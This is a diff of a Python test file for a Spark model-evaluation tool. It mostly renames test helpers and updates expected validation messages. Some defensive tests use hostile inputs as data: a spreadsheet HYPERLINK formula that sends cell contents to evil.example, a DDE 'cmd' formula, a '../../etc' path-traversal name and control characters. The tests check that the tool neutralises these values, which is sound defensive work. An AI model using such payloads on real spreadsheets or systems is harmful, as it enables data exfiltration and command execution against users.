@@ -22,13 +22,13 @@ from ctcalc_spark.config import ConfigError, OutputConfig, config_from_dict, rea
 from ctcalc_spark.jobs.evaluate import NO_DATE, evaluate
 from ctcalc_spark.spark.scan import INVALID_REASONS, NULL_SLICE
 from ctcalc_spark.tables import OutputStore
-from tests.test_evaluate import DS, _binary_rows, _write
+from tests._rows import DS, binary_eval_rows, multiclass_logits, write_eval
 
 N = 400
 
 
 def _rows(**kw) -> pd.DataFrame:
-    return _binary_rows(n=N, models=("a",), runs=(0,), **kw)
+    return binary_eval_rows(n=N, models=("a",), runs=(0,), **kw)
 
 
 def _write_files(path, frames):
@@ -87,14 +87,14 @@ def test_outputs_inside_an_input_folder_read_whole_are_refused(spark, demo_confi
                                               r"\(it has no <ds>=<day> folders\): the job would read its own"):
             evaluate(spark, demo_config(input__path=str(flat), output__path=str(output)), DS)
     assert not (flat / "out").exists()
-    _write(_rows(), tmp_path / "days")
+    write_eval(_rows(), tmp_path / "days")
     done = evaluate(spark, demo_config(input__path=str(tmp_path / "days"), output__path=str(tmp_path / "days" / "o")),
                     DS)
     assert done.days == [DS] and OutputStore(OutputConfig(path=str(tmp_path / "days" / "o"))).days("metrics") == [DS]
 
 
 def test_an_output_path_that_cannot_be_a_folder_is_refused_before_the_scan(spark, demo_config, tmp_path):
-    _write(_rows(), tmp_path / "eval")
+    write_eval(_rows(), tmp_path / "eval")
     (tmp_path / "file.txt").write_text("not a folder")
     cfg = demo_config(output__path=str(tmp_path / "file.txt" / "out"))
     with pytest.raises(ConfigError, match=r"^output.path '.*/file.txt/out' cannot hold the outputs: '.*/file.txt' is a "
@@ -107,7 +107,7 @@ def test_an_output_folder_that_cannot_be_written_is_refused_before_the_scan(spar
                                                                           read_only_folder):
     """A read-only output folder (a share mounted read-only, another user's folder) was found in the first write,
     after the whole scan: `failed: OSError: [Errno 30] Cannot create directory '/mnt/ro/out'`."""
-    _write(_rows(), tmp_path / "eval")
+    write_eval(_rows(), tmp_path / "eval")
     cfg = demo_config(output__path=str(read_only_folder() / "out"))
     with pytest.raises(ConfigError, match=r"^output.path '.*/ro0/out' cannot hold the outputs: '.*/ro0' is (on a "
                                           r"read-only file system|not writable by this user), so the job would fail "
@@ -120,7 +120,7 @@ def test_an_output_folder_of_another_tables_files_is_refused_before_the_scan(spa
     partitions beside it, so every reader of the folder read both. Now refused before the scan, nothing written;
     ctcalc's own (Delta) tables pass, and a rerun there works. A table folder in ctcalc's earlier layout
     (Parquet ds= folders, no Delta log) is named as such, with the command that converts it."""
-    _write(_rows(), tmp_path / "eval")
+    write_eval(_rows(), tmp_path / "eval")
     out = tmp_path / "out"
     (out / "metrics").mkdir(parents=True)
     pd.DataFrame({"a": [1]}).to_parquet(out / "metrics" / "part-0.parquet")
@@ -152,8 +152,8 @@ def test_two_tasks_in_one_output_are_refused_and_a_mixed_table_is_named(spark, d
     from ctcalc_spark.jobs.rolling import run_rolling
 
     days = ["2026-11-20", DS]
-    rows = pd.concat([_binary_rows(n=2000, seed=i, ds=d) for i, d in enumerate(days)], ignore_index=True)
-    _write(rows.assign(prediction=rows["logit"]), tmp_path / "eval")
+    rows = pd.concat([binary_eval_rows(n=2000, seed=i, ds=d) for i, d in enumerate(days)], ignore_index=True)
+    write_eval(rows.assign(prediction=rows["logit"]), tmp_path / "eval")
     out = tmp_path / "out"
     binary = demo_config(output__path=str(out))
     regression = demo_config(task="regression", output__path=str(out), columns={"logit": None,
@@ -193,9 +193,9 @@ def test_compare_over_days_with_model_and_run_columns_of_other_names(spark, demo
     from ctcalc_spark.jobs.compare import run_metrics
 
     days = ["2026-11-20", DS]
-    rows = pd.concat([_binary_rows(n=2000, seed=i, ds=d) for i, d in enumerate(days)], ignore_index=True)
-    _write(rows, tmp_path / "plain")
-    _write(rows.rename(columns={"model": "pipeline", "run": "seed"}), tmp_path / "named")
+    rows = pd.concat([binary_eval_rows(n=2000, seed=i, ds=d) for i, d in enumerate(days)], ignore_index=True)
+    write_eval(rows, tmp_path / "plain")
+    write_eval(rows.rename(columns={"model": "pipeline", "run": "seed"}), tmp_path / "named")
     got = {}
     for name, columns in (("plain", {}), ("named", {"model": "pipeline", "run": "seed"})):
         cfg = demo_config(input__path=str(tmp_path / name), output__path=str(tmp_path / f"out_{name}"),
@@ -218,7 +218,7 @@ def test_compare_over_days_with_model_and_run_columns_of_other_names(spark, demo
 ])
 def test_a_path_spark_has_no_file_system_for_names_the_connector_before_the_scan(spark, demo_config, tmp_path, where,
                                                                                   uri, message):
-    _write(_rows(), tmp_path / "eval")
+    write_eval(_rows(), tmp_path / "eval")
     cfg = demo_config(**{f"{where}__path": uri})
     with pytest.raises(ConfigError, match=message):
         evaluate(spark, cfg, DS, progress=lambda line: pytest.fail(f"went on to {line!r}"))
@@ -228,7 +228,7 @@ def test_an_output_store_that_cannot_be_reached_is_named_before_the_scan(spark, 
     """Path outputs are written by deltalake, not Spark: an object-store output.path it cannot reach (here gs://
     without credentials) used to fail in the first write, after the whole scan; it must stop before the scan
     with one line naming the path and the settings that reach it."""
-    _write(_rows(), tmp_path / "eval")
+    write_eval(_rows(), tmp_path / "eval")
     cfg = demo_config(output__path="gs://bucket/out")
     with pytest.raises(ConfigError, match=r"'gs://bucket/out/\w+'.*output\.storage_options"):
         evaluate(spark, cfg, DS, progress=lambda line: pytest.fail(f"went on to {line!r}"))
@@ -335,7 +335,7 @@ def test_null_model_or_run_is_an_invalid_row_in_both_modes(spark, demo_config, t
     df = _rows()
     df["model"] = np.where(df.index == 3, None, df["model"])
     df["run"] = np.where(df.index == 5, None, df["run"].astype(str))
-    _write(df, tmp_path / "eval")
+    write_eval(df, tmp_path / "eval")
     with pytest.raises(InputError, match=r"2 rows: null \(or NaN\) in the model or run column"):
         evaluate(spark, demo_config(), DS, write=False)
     result = evaluate(spark, demo_config(on_invalid="drop"), DS, write=False)
@@ -348,7 +348,7 @@ def test_null_model_or_run_is_an_invalid_row_in_both_modes(spark, demo_config, t
 def test_null_slice_value_is_a_slice_of_its_own(spark, demo_config, tmp_path):
     df = _rows()
     df["country"] = np.where(df.index % 4 == 0, None, "DE")
-    _write(df, tmp_path / "eval")
+    write_eval(df, tmp_path / "eval")
     m = evaluate(spark, demo_config(columns={"slices": ["country"]}), DS, write=False).metrics
     by = m.set_index("slice_value")["n_rows"].to_dict()
     assert by == {"__all__": N, "DE": N * 3 // 4, NULL_SLICE: N // 4}
@@ -358,7 +358,7 @@ def test_null_split_value_names_its_reason_and_count(spark, demo_config, tmp_pat
     df = _rows().assign(split="remain")
     df.loc[:40, "split"] = "bias"
     df.loc[7, "split"] = None
-    _write(df, tmp_path / "eval")
+    write_eval(df, tmp_path / "eval")
     # used to say "Invalid evaluation rows for ds=...:  (e.g. ...)": the null split value nulled the group key
     with pytest.raises(InputError, match=r"ds=2026-11-21: 1 rows: null split value or example id \(e\.g\."):
         evaluate(spark, demo_config(columns={"split": "split"}), DS, write=False)
@@ -367,9 +367,9 @@ def test_null_split_value_names_its_reason_and_count(spark, demo_config, tmp_pat
 def test_split_values_match_in_any_letter_case(spark, demo_config, tmp_path):
     df = _rows().assign(split="remain")
     df.loc[:40, "split"] = "bias"
-    _write(df, tmp_path / "eval")
+    write_eval(df, tmp_path / "eval")
     lower = evaluate(spark, demo_config(columns={"split": "split"}), DS, write=False).metrics
-    _write(df.assign(split=df["split"].map({"bias": "Bias", "remain": "REMAIN"})), tmp_path / "eval2")
+    write_eval(df.assign(split=df["split"].map({"bias": "Bias", "remain": "REMAIN"})), tmp_path / "eval2")
     mixed = evaluate(spark, demo_config(input={"path": str(tmp_path / "eval2")}, columns={"split": "split"}), DS,
                      write=False).metrics
     pd.testing.assert_frame_equal(lower, mixed)
@@ -381,7 +381,7 @@ def test_text_that_is_not_a_number_is_counted_not_a_traceback(spark, demo_config
     for name in ("label", "logit", "weight"):
         df[name] = df[name].astype(str)
     df.loc[3, "label"], df.loc[4, "logit"], df.loc[5, "weight"] = "abc", "n/a", "heavy"
-    _write(df, tmp_path / "eval")
+    write_eval(df, tmp_path / "eval")
     cfg = dict(columns={"weight": "weight"})
     with pytest.raises(InputError, match="3 rows: text that is not a number in the label, score or weight column"):
         evaluate(spark, demo_config(**cfg), DS, write=False)
@@ -393,7 +393,7 @@ def test_text_that_is_not_a_number_is_shown_and_a_decimal_comma_named(spark, dem
     """A CSV written with decimal commas (0,673585) made every row invalid with no value shown."""
     df = _rows()
     df["logit"] = df["logit"].map(lambda v: f"{v:.6f}".replace(".", ","))
-    _write(df, tmp_path / "eval")
+    write_eval(df, tmp_path / "eval")
     with pytest.raises(InputError, match=rf"{N} rows: text that is not a number .* The score column 'logit' holds "
                                          r"text such as '-?\d+,\d{6}': a number written with a decimal comma, which "
                                          r"Spark does not read as a number\. Write the numbers with a decimal point"):
@@ -404,7 +404,7 @@ def test_text_that_is_not_a_number_is_shown_and_a_decimal_comma_named(spark, dem
         evaluate(spark, demo_config(on_invalid="drop"), DS, write=False)
     df = _rows(weights=True).astype({"weight": str})
     df.loc[5, "weight"] = "heavy"
-    _write(df, tmp_path / "eval2")
+    write_eval(df, tmp_path / "eval2")
     with pytest.raises(InputError, match=r"1 rows: text .* The weight column 'weight' holds text such as 'heavy'\.$"):
         evaluate(spark, demo_config(input={"path": str(tmp_path / "eval2")}, columns={"weight": "weight"}), DS,
                  write=False)
@@ -416,7 +416,7 @@ def test_a_range_whose_rows_are_all_invalid_names_its_days_and_writes_nothing(sp
     days = ["2024-03-01", "2024-03-02"]
     df = pd.concat([_rows(seed=i, ds=d) for i, d in enumerate(days)], ignore_index=True)
     df["logit"] = np.nan
-    _write(df, tmp_path / "eval")
+    write_eval(df, tmp_path / "eval")
     with pytest.raises(InputError, match=rf"Every evaluation row for ds={days[0]}, {days[1]} is invalid \({2 * N} "
                                          rf"rows in all: {2 * N} rows: NaN or infinite logit"):
         evaluate(spark, demo_config(on_invalid="drop"), f"{days[0]}..{days[1]}")
@@ -430,15 +430,15 @@ def test_binary_labels_written_as_boolean_text_are_labels(spark, demo_config, tm
     ('text that is not a number'). Any case, and Spark's other boolean spellings, count as 1/0; other text does
     not. The metrics equal those of the same rows with 0/1 labels, exactly."""
     df = _rows()
-    _write(df, tmp_path / "numbers")
+    write_eval(df, tmp_path / "numbers")
     spellings = np.array(["false", "true", "FALSE", "True", "0", "1", "no", "yes", "f", "t"])
     text = df.assign(label=spellings[2 * np.arange(len(df)) % 10 + df["label"].to_numpy()])
-    _write(text, tmp_path / "text")
+    write_eval(text, tmp_path / "text")
     numbers = evaluate(spark, demo_config(input__path=str(tmp_path / "numbers")), DS, write=False).metrics
     words = evaluate(spark, demo_config(input__path=str(tmp_path / "text")), DS, write=False).metrics
     pd.testing.assert_frame_equal(words, numbers)
     text.loc[7, "label"] = "maybe"
-    _write(text, tmp_path / "maybe")
+    write_eval(text, tmp_path / "maybe")
     with pytest.raises(InputError, match="1 rows: text that is not a number in the label, score or weight column"):
         evaluate(spark, demo_config(input__path=str(tmp_path / "maybe")), DS, write=False)
 
@@ -463,11 +463,11 @@ def test_labels_other_than_0_and_1_are_named_with_what_to_do(spark, demo_config,
     (-1/1 and 1/2: columns.class_names, which gives the metrics of 0/1 labels exactly)."""
     df = _rows()
     df["label"] = labels(df["label"].to_numpy()).astype(np.float64)
-    _write(df, tmp_path / "eval")
+    write_eval(df, tmp_path / "eval")
     with pytest.raises(InputError, match=r"rows: label not allowed for the task .*" + hint):
         evaluate(spark, demo_config(), DS, write=False)
     if "class_names" in hint:  # the advice works: the metrics of the 0/1 labels, exactly
-        _write(_rows(), tmp_path / "zero_one")
+        write_eval(_rows(), tmp_path / "zero_one")
         want = evaluate(spark, demo_config(input__path=str(tmp_path / "zero_one")), DS, write=False).metrics
         names = sorted(df["label"].unique().astype(int).astype(str), key=int)
         got = evaluate(spark, demo_config(columns={"class_names": names}), DS, write=False).metrics
@@ -490,7 +490,7 @@ def test_probabilities_outside_0_1_say_what_the_column_holds(spark, demo_config,
     the rule only: the message now says what the column holds and the likely fix."""
     df = _rows()
     df["score"] = scores(df.pop("logit").to_numpy())
-    _write(df, tmp_path / "eval")
+    write_eval(df, tmp_path / "eval")
     with pytest.raises(InputError, match=r"rows: probability outside \[0, 1\] .*" + hint):
         evaluate(spark, demo_config(columns={"logit": None, "prediction": "score"}), DS, write=False)
 
@@ -503,7 +503,7 @@ def test_probabilities_given_as_logits_get_a_warning(spark, demo_config, tmp_pat
     from ctcalc_spark.core.sanity import probability_like_logits_line
 
     df = _rows()
-    _write(df.assign(logit=1 / (1 + np.exp(-df["logit"]))), tmp_path / "probs")
+    write_eval(df.assign(logit=1 / (1 + np.exp(-df["logit"]))), tmp_path / "probs")
     cfg = demo_config(input__path=str(tmp_path / "probs"))
     notes = data_notes(evaluate(spark, cfg, DS, write=False), cfg)
     assert [n for n in notes if n.startswith("WARNING: all")] == [
@@ -511,7 +511,7 @@ def test_probabilities_given_as_logits_get_a_warning(spark, demo_config, tmp_pat
         "0.05), so every row was read as a probability between 0.5 and about 0.73. If they are probabilities, set "
         "columns.prediction: logit and columns.logit: null, and run again: the metrics just written are of the "
         "wrong scores."]
-    _write(df, tmp_path / "eval")
+    write_eval(df, tmp_path / "eval")
     real = evaluate(spark, demo_config(), DS, write=False)
     assert not any(n.startswith("WARNING: all") for n in data_notes(real, demo_config()))
     assert not any("ranks the rows backwards" in n for n in data_notes(real, demo_config()))
@@ -526,10 +526,10 @@ def test_a_day_of_one_label_says_so_instead_of_a_hint_about_rows(spark, demo_con
     counts only the groups with both labels."""
     from ctcalc_spark.cli.cmd_evaluate import data_notes
 
-    rows = _binary_rows(n=N, models=("a", "b"), runs=(0, 1))
+    rows = binary_eval_rows(n=N, models=("a", "b"), runs=(0, 1))
 
     def notes(frame, name, **columns):
-        _write(frame, tmp_path / name)
+        write_eval(frame, tmp_path / name)
         cfg = demo_config(input__path=str(tmp_path / name), columns=columns)
         result = evaluate(spark, cfg, DS, write=False)
         return result.metrics, data_notes(result, cfg)
@@ -562,15 +562,13 @@ def test_multiclass_probabilities_given_as_logits_get_a_warning(spark, demo_conf
     from ctcalc_spark.cli.cmd_evaluate import data_notes
     from ctcalc_spark.core.sanity import probability_like_class_logits_line
 
-    rng = np.random.default_rng(5)
     n, k = 600, 3
-    y = rng.integers(0, k, n)
-    z = rng.normal(0, 1.5, (n, k))
+    y, z = multiclass_logits(n, k, seed=5, scale=1.5)
     p = softmax(z, axis=1).round(6)  # a CSV's rounding: rows sum to 1 within 1e-5
     base = pd.DataFrame({"model": "m", "run": 0, "ds": DS, "example_id": np.arange(n), "label": y})
-    _write(base.assign(**{f"z{i}": z[:, i] for i in range(k)}, **{f"p{i}": p[:, i] for i in range(k)}),
-           tmp_path / "wide")
-    _write(base.assign(logit=list(p)), tmp_path / "array")
+    write_eval(base.assign(**{f"z{i}": z[:, i] for i in range(k)}, **{f"p{i}": p[:, i] for i in range(k)}),
+               tmp_path / "wide")
+    write_eval(base.assign(logit=list(p)), tmp_path / "array")
     split = {"bias_fraction": 0.2, "salt": "t"}
 
     def notes(path, **columns):
@@ -601,21 +599,18 @@ def test_multiclass_labels_given_as_class_names_and_scores_in_another_order(spar
 
     from ctcalc_spark.cli.cmd_evaluate import data_notes
 
-    rng = np.random.default_rng(8)
     n, k = 3000, 3
-    y = rng.integers(0, k, n)
-    z = rng.normal(0, 1.0, (n, k))
-    z[np.arange(n), y] += 2.0
+    y, z = multiclass_logits(n, k, seed=8, scale=1.0, boost=2.0)
     p = softmax(z, axis=1)
     names = np.array(["cat", "dog", "bird"])  # the file's class order: p0 is cat's, p1 dog's, p2 bird's
     base = pd.DataFrame({"model": "m", "run": 0, "ds": DS, "example_id": np.arange(n),
                          **{f"p{i}": p[:, i] for i in range(k)}})
-    _write(base.assign(label=y), tmp_path / "index")
-    _write(base.assign(label=names[y]), tmp_path / "names")
-    _write(base.assign(label=y + 1), tmp_path / "from1")
+    write_eval(base.assign(label=y), tmp_path / "index")
+    write_eval(base.assign(label=names[y]), tmp_path / "names")
+    write_eval(base.assign(label=y + 1), tmp_path / "from1")
     odd = base.assign(label=names[y])
     odd.loc[:4, "label"] = "fish"
-    _write(odd, tmp_path / "fish")
+    write_eval(odd, tmp_path / "fish")
     probs = ["p0", "p1", "p2"]
 
     def run(path, **columns):
@@ -708,8 +703,8 @@ def test_multiclass_probabilities_as_percentages_or_logits_are_named(spark, demo
     z = rng.normal(0, 2, (n, 3))
     p = np.exp(z) / np.exp(z).sum(axis=1, keepdims=True)
     base = pd.DataFrame({"model": "m", "run": 0, "ds": DS, "example_id": np.arange(n), "label": rng.integers(0, 3, n)})
-    _write(base.assign(**{f"p{i}": (100 * p[:, i]).round(2) for i in range(3)}), tmp_path / "pct")
-    _write(base.assign(**{f"p{i}": z[:, i] for i in range(3)}), tmp_path / "logits")
+    write_eval(base.assign(**{f"p{i}": (100 * p[:, i]).round(2) for i in range(3)}), tmp_path / "pct")
+    write_eval(base.assign(**{f"p{i}": z[:, i] for i in range(3)}), tmp_path / "logits")
     high, low = (100 * p).round(2).max(), z.min()
 
     def run(path):
@@ -736,15 +731,14 @@ def test_multiclass_probabilities_rounded_to_0_for_the_label_are_counted(spark, 
 
     from ctcalc_spark.cli.cmd_evaluate import data_notes
 
-    rng = np.random.default_rng(8)
     n, k = 2000, 3
-    y = rng.integers(0, k, n)
-    p = softmax(rng.normal(0, 4, (n, k)), axis=1)
+    y, z = multiclass_logits(n, k, seed=8, scale=4)
+    p = softmax(z, axis=1)
     base = pd.DataFrame({"model": "m", "run": 0, "ds": DS, "example_id": np.arange(n), "label": y})
     cols = ["p0", "p1", "p2"]
 
     def warnings(probs, name):
-        _write(base.assign(**{c: probs[:, i] for i, c in enumerate(cols)}), tmp_path / name)
+        write_eval(base.assign(**{c: probs[:, i] for i, c in enumerate(cols)}), tmp_path / name)
         cfg = demo_config(task="multiclass", split={"bias_fraction": 0.2, "salt": "t"},
                           columns={"class_probabilities": cols}, input__path=str(tmp_path / name))
         return [w for w in data_notes(evaluate(spark, cfg, DS, write=False), cfg) if "clip_eps" in w]
@@ -767,7 +761,7 @@ def test_scores_of_the_other_class_get_a_warning(spark, demo_config, tmp_path):
     from ctcalc_spark.cli.cmd_evaluate import data_notes
 
     df = _rows()
-    _write(df.assign(logit=-df["logit"]), tmp_path / "eval")
+    write_eval(df.assign(logit=-df["logit"]), tmp_path / "eval")
     cfg = demo_config()
     notes = data_notes(evaluate(spark, cfg, DS, write=False), cfg)
     line = next(n for n in notes if "backwards" in n)
@@ -778,14 +772,14 @@ def test_scores_of_the_other_class_get_a_warning(spark, demo_config, tmp_path):
 
 def test_a_column_without_numbers_is_rejected_before_the_scan(spark, demo_config, tmp_path):
     df = _rows().assign(label=pd.Timestamp("2026-01-01"))
-    _write(df, tmp_path / "eval")
+    write_eval(df, tmp_path / "eval")
     with pytest.raises(InputError, match=r"Column 'label' \('columns.label'\) has Spark type timestamp"):
         evaluate(spark, demo_config(), DS, write=False)
 
 
 @pytest.mark.parametrize("weight", [1e308, 1e148])  # sums that overflow; finite sums, a total weight of 4e150
 def test_huge_weights_are_rejected_with_a_hint_to_rescale(spark, demo_config, tmp_path, weight):
-    _write(_rows().assign(weight=weight), tmp_path / "eval")
+    write_eval(_rows().assign(weight=weight), tmp_path / "eval")
     # used to end in "AssertionError: Metric 'weight' came out as inf ... a bug"
     with pytest.raises(InputError, match=r"too large.*rescale the weights"):
         evaluate(spark, demo_config(columns={"weight": "weight"}), DS, write=False)
@@ -796,7 +790,7 @@ def test_huge_finite_logits_are_evaluated(spark, demo_config, tmp_path, logit):
     df = _rows()
     df.loc[:5, "logit"] = logit
     df.loc[6:9, "logit"] = -logit
-    _write(df, tmp_path / "eval")
+    write_eval(df, tmp_path / "eval")
     m = evaluate(spark, demo_config(), DS, write=False).metrics
     assert m.loc[0, "status"] == "ok" and m.loc[0, "n_rows"] == N
     assert np.isfinite(m.loc[0, ["log_loss", "calibrated_log_loss", "auc"]].astype(float)).all()
@@ -849,7 +843,7 @@ def test_duplicate_ids_are_counted_per_group_or_stop_the_run(spark, demo_config,
     df = _rows()
     again = df.iloc[:5].copy()
     again.loc[again.index[0], "label"] = 1 - again.loc[again.index[0], "label"]  # one id with both labels
-    _write(pd.concat([df, again, df.iloc[:1]], ignore_index=True), tmp_path / "eval")
+    write_eval(pd.concat([df, again, df.iloc[:1]], ignore_index=True), tmp_path / "eval")
     assert evaluate(spark, demo_config(), DS, write=False).duplicates.empty  # off by default (a pass of its own)
     found = evaluate(spark, demo_config(input__duplicate_ids="count"), DS, write=False).duplicates
     assert found.to_dict("records") == [{"ds": DS, "model": "a", "run": "0", "n_duplicate_rows": 6,
@@ -868,7 +862,7 @@ def test_ragged_multiclass_logits_are_invalid_rows(spark, demo_config, tmp_path)
     logits = [list(r) for r in z]
     logits[7] = logits[7][:2]  # a row that lost a class: used as if the problem had two classes
     df = pd.DataFrame({"model": "a", "run": 0, "ds": DS, "example_id": np.arange(N), "label": y, "logit": logits})
-    _write(df, tmp_path / "eval")
+    write_eval(df, tmp_path / "eval")
     cfg = dict(task="multiclass", split={"bias_fraction": 0.2, "salt": "t"})
     with pytest.raises(InputError, match="1 rows: logit array length differs"):
         evaluate(spark, demo_config(**cfg), DS, write=False)
@@ -883,7 +877,7 @@ def test_ragged_multiclass_logits_are_invalid_rows(spark, demo_config, tmp_path)
 
 def test_column_names_with_a_dot_or_a_backtick(spark, demo_config, tmp_path):
     df = _rows(weights=True, slices=True).rename(columns={"country": "geo.country", "weight": "w`x"})
-    _write(df, tmp_path / "eval")
+    write_eval(df, tmp_path / "eval")
     cfg = demo_config(columns={"slices": ["geo.country"], "weight": "w`x"})
     result = evaluate(spark, cfg, DS)
     m = result.metrics
@@ -971,7 +965,9 @@ def test_text_that_is_not_utf8_stops_the_run_before_a_write(spark, demo_config, 
     got = evaluate(spark, demo_config(**latin), DS, write=False).metrics
     assert set(got["slice_value"]) == {"__all__", "Köln", "Kèln", "Zürich"} and set(got["model"]) == {"modèle"}
     cp1252 = {**cfg, "input": {**cfg["input"], "options": {"encoding": "windows-1252"}}}
-    with pytest.raises(InputError, match=r"but got windows-1252\..* also set spark\.conf: "
+    # Spark's words (the encodings it allows, 'but got windows-1252') are not asserted; our hint is
+    with pytest.raises(InputError, match=r"windows-1252 \(its € and curly quotes\), Shift_JIS, GBK and the other "
+                                         r"encodings Java knows, also set spark\.conf: "
                                          r"\{spark\.sql\.legacy\.javaCharsets: 'true'\}\.$"):
         evaluate(spark, demo_config(**cp1252), DS, write=False)
 
@@ -1048,9 +1044,9 @@ def test_a_scan_result_larger_than_the_driver_accepts_is_one_line_naming_the_sli
     from ctcalc_spark.errors import EXIT_CONFIG
     from tests._cli import run_cli
 
-    rows = _binary_rows(n=20_000, runs=(0,))
+    rows = binary_eval_rows(n=20_000, runs=(0,))
     rows["user"] = rows["example_id"].astype(str)  # a value per row: ids, not segments
-    _write(rows, tmp_path / "eval")
+    write_eval(rows, tmp_path / "eval")
     conf = tmp_path / "c.yaml"
     conf.write_text(yaml.safe_dump({
         "input": {"path": str(tmp_path / "eval")}, "output": {"path": str(tmp_path / "out")},
@@ -1074,8 +1070,8 @@ def test_nanosecond_timestamps_from_pandas_get_the_way_to_write_them(spark, demo
     assert str(rows["event_time"].dtype) == "datetime64[ns, UTC]"
     (tmp_path / "eval" / f"ds={DS}").mkdir(parents=True)
     rows.drop(columns="ds").to_parquet(tmp_path / "eval" / f"ds={DS}" / "part-0.parquet", index=False)
-    with pytest.raises(InputError, match=r"TIMESTAMP\(NANOS.*A column holds timestamps in nanoseconds, which Spark "
-                                         r"does not read .* coerce_timestamps='us'"):
+    with pytest.raises(InputError, match=r"A column holds timestamps in nanoseconds, which Spark does not read .* "
+                                         r"coerce_timestamps='us'"):  # after Spark's words, which are not asserted
         evaluate(spark, demo_config(), DS, write=False)
     rows.drop(columns="ds").to_parquet(tmp_path / "eval" / f"ds={DS}" / "part-0.parquet", index=False,
                                        coerce_timestamps="us", allow_truncated_timestamps=True)
@@ -1137,9 +1133,10 @@ def test_a_date_column_in_nanoseconds_reads_with_nanos_as_long_and_epoch_ns(spar
         cfg = demo_config(input={"path": str(path)}, columns=columns)
         return evaluate(spark, cfg, DS, write=False).metrics.reset_index(drop=True)
 
-    with pytest.raises(InputError, match=r"TIMESTAMP\(NANOS.*read them as numbers of nanoseconds as they are: set "
-                                         r"spark.conf: \{spark.sql.legacy.parquet.nanosAsLong: true\}, and, when the "
-                                         r"date column is one of them, columns.ds_format: epoch_ns\.$"):
+    with pytest.raises(InputError, match=r"A column holds timestamps in nanoseconds.*read them as numbers of "
+                                         r"nanoseconds as they are: set spark.conf: "
+                                         r"\{spark.sql.legacy.parquet.nanosAsLong: true\}, and, when the date column "
+                                         r"is one of them, columns.ds_format: epoch_ns\.$"):
         run(tmp_path / "nanos.parquet")
     spark.conf.set("spark.sql.legacy.parquet.nanosAsLong", "true")
     try:
@@ -1192,10 +1189,10 @@ def test_dates_that_are_no_yyyy_mm_dd_day_are_rows_of_no_day(spark, demo_config,
 
 def test_a_nan_run_or_model_is_an_invalid_row_as_a_null_is(spark, demo_config, tmp_path):
     """A NaN in a float run column was a run of its own ('NaN', 3 rows, counted by compare)."""
-    df = _binary_rows(n=N, models=("a",), runs=(0, 1))
+    df = binary_eval_rows(n=N, models=("a",), runs=(0, 1))
     df["run"] = df["run"].astype(float)
     df.loc[:2, "run"] = np.nan
-    _write(df, tmp_path / "eval")
+    write_eval(df, tmp_path / "eval")
     with pytest.raises(InputError, match=r"3 rows: null \(or NaN\) in the model or run column"):
         evaluate(spark, demo_config(), DS)
     assert not (tmp_path / "out").exists()
@@ -1210,7 +1207,7 @@ def test_a_slice_value_written_like_the_null_slice_stays_a_slice_of_its_own(spar
     in front ('\\__null__'), and a value that is already so one more: no two values share a slice."""
     df = _rows()
     df["country"] = np.array([None, NULL_SLICE, "\\" + NULL_SLICE, "DE"], dtype=object)[df.index % 4]
-    _write(df, tmp_path / "eval")
+    write_eval(df, tmp_path / "eval")
     m = evaluate(spark, demo_config(columns={"slices": ["country"]}), DS, write=False).metrics
     assert m.set_index("slice_value")["n_rows"].to_dict() == {
         "__all__": N, "DE": N // 4, NULL_SLICE: N // 4, "\\" + NULL_SLICE: N // 4, "\\\\" + NULL_SLICE: N // 4}
@@ -1232,7 +1229,7 @@ def test_weights_too_large_or_too_small_for_their_sums_are_one_clear_error(spark
             df["weight"] = w
         else:
             df.loc[row, ["weight", "label", "logit"]] = [w, 1, -3.0 + 6.0 * row]  # far apart: two summary groups
-    _write(df, tmp_path / "eval")
+    write_eval(df, tmp_path / "eval")
     with pytest.raises(InputError, match=message + r".* rescale the weights \(e\.g\. divide by their maximum\)"):
         evaluate(spark, demo_config(columns={"weight": "weight"}), DS)
     assert _written(tmp_path / "out") == []
@@ -1294,7 +1291,7 @@ def test_report_csv_cells_that_start_like_a_formula_are_text(tmp_path):
     import csv
 
     from ctcalc_spark.reports.drift import ReportInput, build_report, write_report_files
-    from tests._drift_data import binary_drift_summaries, day_range
+    from tests._rows import binary_drift_summaries, day_range
 
     evil = {"ctr_a": '=HYPERLINK("http://evil.example/?"&A1,"open")', "ctr_b": "@SUM(1+1)"}
     days = day_range("2026-01-05", 21)
@@ -1336,7 +1333,7 @@ def test_a_folder_that_links_back_into_the_input_is_refused_before_the_scan(spar
     """A symbolic link in a ds= folder to that folder: Spark followed it 40 times deep and counted the day's 400
     rows as 16,400, exit 0; a link to the table's own folder ended in CONFLICTING_PARTITION_COLUMN_NAMES with no
     detail. A link to a folder outside the table is read as before."""
-    _write(_rows(), tmp_path / "eval")
+    write_eval(_rows(), tmp_path / "eval")
     day = tmp_path / "eval" / f"ds={DS}"
     (day / "loop").symlink_to(day if target == "day" else tmp_path / "eval")
     with pytest.raises(InputError, match=rf"^The evaluation table '.*/eval' holds a folder that links back into it: "
@@ -1345,13 +1342,13 @@ def test_a_folder_that_links_back_into_the_input_is_refused_before_the_scan(spar
         evaluate(spark, demo_config(), DS)
     assert _written(tmp_path / "out") == []
     (day / "loop").unlink()
-    _write(_rows(ds="2026-11-22"), tmp_path / "elsewhere")  # a day's folder on another disk, linked in
+    write_eval(_rows(ds="2026-11-22"), tmp_path / "elsewhere")  # a day's folder on another disk, linked in
     (tmp_path / "eval" / "ds=2026-11-22").symlink_to(tmp_path / "elsewhere" / "ds=2026-11-22")
     assert list(evaluate(spark, demo_config(), "2026-11-22", write=False).metrics["n_rows"]) == [N]
 
 
 def test_an_empty_range_with_allow_missing_days_does_not_advise_allow_missing_days(spark, demo_config, tmp_path):
-    _write(_rows(), tmp_path / "eval")
+    write_eval(_rows(), tmp_path / "eval")
     with pytest.raises(InputError) as err:
         evaluate(spark, demo_config(), "2026-10-01..2026-10-05", allow_missing_days=True)
     assert "or pass --allow-missing-days" not in str(err.value)
@@ -1363,7 +1360,7 @@ def test_an_example_row_with_a_null_model_shows_null(spark, demo_config, tmp_pat
     """The error's example row showed a null model as model=np.float64(nan)."""
     df = _rows()
     df["model"] = np.where(df.index < 3, None, df["model"])
-    _write(df, tmp_path / "eval")
+    write_eval(df, tmp_path / "eval")
     with pytest.raises(InputError, match=rf"\(e\.g\. ds={DS}, model=null, run='0'\)"):
         evaluate(spark, demo_config(), DS, write=False)
 
@@ -1401,7 +1398,7 @@ def test_names_with_control_characters_path_parts_or_formulas_are_kept_and_shown
 
     names = ["m\nctcalc evaluate: done", "m\x00x", "../../etc", "=cmd|' /C calc'!A0"]
     df = pd.concat([_rows().assign(model=name, split="remain") for name in names], ignore_index=True)
-    _write(df, tmp_path / "eval")
+    write_eval(df, tmp_path / "eval")
     config = tmp_path / "c.yaml"
